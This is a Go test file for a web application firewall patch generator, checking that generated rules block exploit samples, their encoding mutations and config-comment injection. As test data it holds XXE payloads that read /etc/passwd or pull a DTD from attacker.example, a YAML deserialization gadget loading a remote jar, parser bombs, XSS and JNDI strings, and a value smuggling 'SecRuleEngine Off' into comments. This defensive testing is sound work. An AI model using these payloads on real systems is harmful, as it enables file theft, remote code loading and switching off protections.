package waf

import (
	"context"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/evidentsec/evident/internal/assess"
)

func TestGenerateValidateShop(t *testing.T) {
	db := loadRecords(t)
	traffic := shopTraffic()
	as := []assess.Assessment{executedExposed("gateway", "GO-2026-5970", "golang.org/x/text", "GET /search")}
	set, err := Generate(DefaultConfig(), as, db, traffic)
	if err != nil {
		t.Fatal(err)
	}
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := Validate(context.Background(), set, traffic, corpus); err != nil {
		t.Fatal(err)
	}
	for _, p := range set.Patches {
		t.Log(p.SecLang())
		t.Logf("%+v", *p.Validation)
	}
}

func TestEveryClassBlocksItsCorpus(t *testing.T) {
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	traffic := shopTraffic()
	for _, class := range Classes {
		t.Run(string(class), func(t *testing.T) {
			if len(corpus[class]) < 3 {
				t.Errorf("%d samples, want at least 3", len(corpus[class]))
			}
			for _, ep := range []string{"GET /search", "POST /orders", "GET /products/{id}", "PUT /unseen/{name}"} {
				p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: class}}
				p.Endpoints = mergeEndpoints(nil, []string{ep}, &p.Notes)
				build(DefaultConfig(), &p, 4_900_100, traffic)
				set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
				if err := Validate(context.Background(), set, traffic, corpus); err != nil {
					t.Fatal(err)
				}
				v := set.Patches[0].Validation
				for _, e := range v.Exploits {
					if !e.Blocked {
						t.Errorf("%s: %q not blocked: %s", ep, e.Sample, e.Request)
					}
				}
				if v.LegitimatePassed != v.LegitimateTotal || v.DetectionOnly != 0 {
					t.Errorf("%s: %d of %d legitimate passed, %d rules detection-only", ep, v.LegitimatePassed, v.LegitimateTotal, v.DetectionOnly)
					for _, r := range set.Patches[0].Rules {
						if r.Mode == ModeDetect {
							t.Log(r.Name, r.Reason)
						}
					}
				}
			}
		})
	}
}

// TestMutationsPerClass prints, per class, the mutations of its corpus that
// the class's template does not block, and fails on any.
func TestMutationsPerClass(t *testing.T) {
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	for class := range templates {
		t.Run(string(class), func(t *testing.T) {
			p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: class}}
			p.Endpoints = mergeEndpoints(nil, []string{"POST /orders"}, &p.Notes)
			build(DefaultConfig(), &p, 4_900_100, NewTraffic(0))
			set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
			if err := Validate(context.Background(), set, nil, corpus); err != nil {
				t.Fatal(err)
			}
			v := set.Patches[0].Validation
			for _, m := range v.MutationsMissed {
				t.Errorf("mutation not blocked: %s", m)
			}
			t.Logf("%d of %d mutations blocked", v.MutationsBlocked, v.MutationsTotal)
		})
	}
}

var escapedString = regexp.MustCompile(`"(?:\\u[0-9a-f]{4})*"`)

// TestEscapeJSONStrings: the mutation keeps the document (a JSON parser
// reads the same value) and hides every letter of its strings.
func TestEscapeJSONStrings(t *testing.T) {
	for _, in := range []string{
		`{"__proto__": {"isAdmin": true}}`,
		`[1, -2.5e3, "a", {"b": [null, false, {}], "c": []}, "𝄞 é"]`,
		`"${jndi:ldap://x}"`,
		` {"a" : 1 } `,
	} {
		got, ok := escapeJSONStrings(in)
		if !ok {
			t.Fatalf("%s: not JSON", in)
		}
		var want, have any
		if err := json.Unmarshal([]byte(in), &want); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(got), &have); err != nil {
			t.Fatalf("%s gave %s: %v", in, got, err)
		}
		if diff := cmp.Diff(want, have); diff != "" {
			t.Errorf("%s gave %s (-want +got):\n%s", in, got, diff)
		}
		if rest := escapedString.ReplaceAllString(got, ""); strings.Contains(rest, `"`) {
			t.Errorf("%s gave %s: a string is not all \\u escapes", in, got)
		}
	}
	for _, bad := range []string{`{"a":`, `[1,2`, `not json`} {
		if _, ok := escapeJSONStrings(bad); ok {
			t.Errorf("%q: accepted", bad)
		}
	}
}

// TestUTF16Bodies: an XML or YAML exploit sent in UTF-16, which the
// application's parser reads by its byte order mark, is a mutation, and
// the class template denies it; the regular expressions over the bytes
// saw a NUL between every two characters and let it through. A JSON or
// HTML body gets no such mutation.
func TestUTF16Bodies(t *testing.T) {
	tests := []struct {
		class    Class
		ct, body string
		mutated  bool
	}{
		{ClassXXE, "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, true},
		{ClassXXE, "application/soap+xml; charset=utf-8", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>`, true},
		{ClassParserBomb, "text/xml", `<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>`, true},
		{ClassParserBomb, "application/x-yaml", "a: &a [x, x, x]\nb: [*a, *a, *a]\n", true},
		{ClassDeserialization, "application/yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/x.jar\"]]]]\n", true},
		{ClassPrototypePollution, "application/json", `{"__proto__": {"admin": true}}`, false},
		{ClassXSS, "text/html", `<svg><style><img src=x onerror=alert(1)></style></svg>`, false},
	}
	for _, tt := range tests {
		t.Run(string(tt.class)+" "+tt.ct, func(t *testing.T) {
			req := Request{Method: "POST", Target: "/orders", Headers: map[string]string{"Content-Type": tt.ct}, Body: tt.body}
			i := slices.IndexFunc(mutations(req, "", false), func(m mutation) bool { return m.name == "body in UTF-16" })
			if (i >= 0) != tt.mutated {
				t.Fatalf("a UTF-16 mutation: %v, want %v", i >= 0, tt.mutated)
			}
			if i < 0 {
				return
			}
			m := mutations(req, "", false)[i].req
			b, ok := strings.CutPrefix(m.Body, "\xff\xfe")
			units := make([]uint16, len(b)/2)
			for i := range units {
				units[i] = uint16(b[2*i]) | uint16(b[2*i+1])<<8
			}
			if decoded := string(utf16.Decode(units)); !ok || len(b)%2 != 0 || decoded != tt.body {
				t.Fatalf("the UTF-16 body %q decodes to %q, want %q after a little-endian byte order mark", m.Body, decoded, tt.body)
			}
			p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: tt.class}}
			p.Endpoints = mergeEndpoints(nil, []string{"POST /orders"}, &p.Notes)
			build(DefaultConfig(), &p, 4_900_100, NewTraffic(0))
			w, err := compilePatch(&p, 4_900_000, "")
			if err != nil {
				t.Fatal(err)
			}
			if _, by, err := replay(w, m); err != nil || by == 0 {
				t.Errorf("the body in UTF-16 passed the %s template (%v)", tt.class, err)
			}
		})
	}
}

// TestCommentsStayComments: names that come from telemetry (a service, an
// endpoint) or a database (a vulnerability, a package) end up in the
// comments of the exported SecLang; a line break or a trailing backslash
// in one must not turn what follows into a directive, such as one that
// switches the engine off (FuzzExportLoad found the line break).
func TestCommentsStayComments(t *testing.T) {
	const inject = "x\nSecRuleEngine Off\r\nSecRuleRemoveById 1-99999999 \\"
	set := &PatchSet{IDRange: [2]int{4900000, 4999999}, Patches: []Patch{{
		Service: inject, Vulnerability: inject, Package: inject, IDs: [2]int{4900100, 4900199},
		Endpoints: []Endpoint{{Method: "GET", Route: "/a" + inject}},
		Rules:     []Rule{{ID: 4900100, ProxyOnly: true}},
	}}}
	for name, conf := range map[string]string{"ServiceConf": set.ServiceConf(inject), "ServiceProxyConf": set.ServiceProxyConf(inject)} {
		for i, line := range strings.Split(conf, "\n") {
			if strings.Contains(line, "SecRuleEngine") && !strings.HasPrefix(line, "#") {
				t.Errorf("%s line %d is a directive: %q\n%s", name, i+1, line, conf)
			}
			if strings.HasPrefix(line, "#") && strings.HasSuffix(line, `\`) {
				t.Errorf("%s line %d is a comment that continues over the next: %q", name, i+1, line)
			}
		}
	}
}

// TestValidateWithoutExploitsIsUnproven: a class-template patch that no
// exploit request was replayed against (a corpus without its class) is
// not proven, so none of its rules blocks; it was emitted blocking with
// "0 of 0 exploit requests blocked".
func TestValidateWithoutExploitsIsUnproven(t *testing.T) {
	builtin, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name       string
		corpus     Corpus
		wantProven bool
	}{
		{"built-in corpus", builtin, true},
		{"no corpus", nil, false},
		{"corpus without the class", Corpus{ClassXSS: builtin[ClassXSS]}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			traffic := shopTraffic()
			p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: ClassSQLInjection}}
			p.Endpoints = mergeEndpoints(nil, []string{"GET /search"}, &p.Notes)
			build(DefaultConfig(), &p, 4_900_100, traffic)
			set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
			if err := Validate(context.Background(), set, traffic, tt.corpus); err != nil {
				t.Fatal(err)
			}
			got := set.Patches[0]
			v := got.Validation
			if proven := v.Unproven == ""; proven != tt.wantProven {
				t.Fatalf("%d of %d exploits blocked, unproven %q; want proven %v", v.ExploitsBlocked, v.ExploitsTotal, v.Unproven, tt.wantProven)
			}
			var blocking []int
			for _, r := range got.Rules {
				if r.Kind != KindScope && r.Mode == ModeBlock {
					blocking = append(blocking, r.ID)
				}
			}
			if tt.wantProven != (len(blocking) > 0) {
				t.Errorf("blocking rules %v, want some only when proven", blocking)
			}
			if !tt.wantProven && !strings.Contains(got.SecLang(), "# not proven, so every detection is detection-only: no exploit request was replayed") {
				t.Errorf("the .conf does not say why:\n%s", got.SecLang())
			}
		})
	}
}

// TestOversizedLimitsOfGETOnly: the limits an oversized_input patch learns
// from an endpoint's traffic hold for the endpoint's method, and the traces
// show GET /search alone, while the patch covers the route by any method:
// a ReDoS input sent as POST, in the query or as a form body, passes them.
// Validation replays it so (method POST), and the patch is said to be not
// proven, its detections detection-only, rather than shipped as blocking.
func TestOversizedLimitsOfGETOnly(t *testing.T) {
	traffic := shopTraffic()
	p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: ClassOversizedInput}}
	p.Endpoints = mergeEndpoints(nil, []string{"GET /search"}, &p.Notes)
	build(DefaultConfig(), &p, 4_900_100, traffic)
	set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := Validate(context.Background(), set, traffic, corpus); err != nil {
		t.Fatal(err)
	}
	got := set.Patches[0]
	v := got.Validation
	if v.ExploitsBlocked != v.ExploitsTotal || !strings.Contains(v.Unproven, "method POST") {
		t.Fatalf("%d of %d exploits blocked, unproven %q; want every GET exploit blocked and the POST one said to get through", v.ExploitsBlocked, v.ExploitsTotal, v.Unproven)
	}
	for _, r := range got.Rules {
		if r.Kind != KindScope && r.Mode == ModeBlock {
			t.Errorf("rule %d %q blocks, in a patch not proven", r.ID, r.Name)
		}
	}
}
